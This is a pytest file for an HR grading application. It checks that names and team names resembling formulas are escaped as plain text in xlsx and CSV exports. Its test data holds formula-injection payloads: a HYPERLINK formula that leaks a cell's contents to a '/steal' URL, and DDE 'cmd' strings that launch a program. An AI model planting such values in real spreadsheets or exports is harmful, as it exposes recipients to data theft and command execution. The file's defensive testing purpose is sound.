"""Formula injection (issue 19, case 4): names and teams that a spreadsheet would run as formulas,
written into the roster, exported to .xlsx and CSV and read back."""

from __future__ import annotations

import csv
import io

from conftest import DATA, run_academy
from openpyxl import load_workbook
from test_grade_commands import CYCLE, add_evidence

from graders.engine.schemes import load_schemes
from graders.results.exports import export_cycle
from graders.results.store import grade_cycle
from roster.store import import_roster_file

ATTACKS = {
    "000103": '=HYPERLINK("http://127.0.0.1/steal?"&A1,"click me")',
    "000104": "+cmd|' /C calc'!A0",
    "000102": "@SUM(1+1)*cmd|' /C calc'!A0",
    "000106": "-2+3+cmd|' /C calc'!A0",
}
TEAM = "=1+1 team"


def _poisoned_roster(tmp_path):
    lines = (DATA / "roster_small.csv").read_text(encoding="utf-8").splitlines()
    out = [lines[0]]
    for line in lines[1:]:
        row = next(csv.reader([line]))
        eid = row[0].strip().translate(str.maketrans("０１２３４５６７８９", "0123456789"))
        if eid in ATTACKS:
            row[1] = ATTACKS[eid]
        if row[2] == "Field Team West":
            row[2] = TEAM
        buf = io.StringIO()
        csv.writer(buf, lineterminator="").writerow(row)
        out.append(buf.getvalue())
    path = tmp_path / "poisoned.csv"
    path.write_text("\n".join(out) + "\n", encoding="utf-8")
    return path


def _graded(home, tmp_path):
    import_roster_file(home, _poisoned_roster(tmp_path))
    add_evidence(home)
    with home.transaction() as s:
        grade_cycle(s, CYCLE, load_schemes(), by="manager1")


def test_does_user_text_stay_text_in_every_sheet_of_the_xlsx_while_pay_formulas_work(home, tmp_path):
    """Written into the .xlsx export (results, team sheets, awards, pay ...), and read back with
    openpyxl: is every name or team that looks like a formula a plain text cell holding exactly
    what was typed, and are the workbook's own pay formulas still formulas?"""
    _graded(home, tmp_path)
    out = tmp_path / "grades.xlsx"
    with home.transaction() as s:
        export_cycle(s, CYCLE, out)
    wb = load_workbook(out)
    seen: dict[str, int] = {}
    pay_formulas = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    # only the pay sheet's three computed columns may hold formulas
                    assert cell.column in (9, 10, 11) and ws.max_column == 11, (ws.title, cell.coordinate)
                    assert cell.value.startswith(("=ROUND(", "=I"))
                    pay_formulas += 1
                elif isinstance(cell.value, str) and cell.value in (*ATTACKS.values(), TEAM):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    seen[cell.value] = seen.get(cell.value, 0) + 1
    assert pay_formulas >= 3
    assert set(seen) == {*ATTACKS.values(), TEAM}
    # the team whose name looks like a formula has its own sheet, with its people in it
    team_sheet = next(ws for ws in wb.worksheets if ws.title.startswith("=1+1"))
    assert any(c.value == ATTACKS["000106"] for row in team_sheet.iter_rows() for c in row)
    # the pay formulas still compute from their row: base pay = reference pay x base coefficient
    pay = next(ws for ws in wb.worksheets if ws.max_column == 11 and ws["I2"].data_type == "f")
    assert pay["I2"].value == "=ROUND(F2*G2,2)" and pay["K2"].value == "=I2+J2"


def test_is_user_text_escaped_in_the_csv_export_and_in_roster_list_csv(home, tmp_path):
    """In the results CSV and in `academy roster list --format csv`, does every text cell that a
    spreadsheet would run as a formula start with an apostrophe (the rest exactly as typed), while
    ordinary names and numbers are written as they are?"""
    _graded(home, tmp_path)
    out = tmp_path / "grades.csv"
    with home.transaction() as s:
        export_cycle(s, CYCLE, out)
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
    for text in (*ATTACKS.values(), TEAM):
        assert "'" + text in cells
        assert text not in cells
    assert "赵敏" in cells  # an ordinary name is written as it is
    for c in cells:
        assert c[:1] not in ("=", "+", "@", "-") or c.lstrip("-").replace(".", "").isdigit(), c
    proc = run_academy("roster", "list", "--format", "csv", home=home.root,
                       env={"ACADEMY_DB_URL": home.db_url})
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(proc.stdout)))
    listed = {r[0]: r for r in rows[1:]}
    for eid, text in ATTACKS.items():
        assert listed[eid][1] == "'" + text
        assert listed[eid][2] in ("售后一部", "'" + TEAM)
    assert listed["000101"][1] == "李娜"
    assert all(c[:1] not in ("=", "+", "-", "@") for r in rows for c in r)
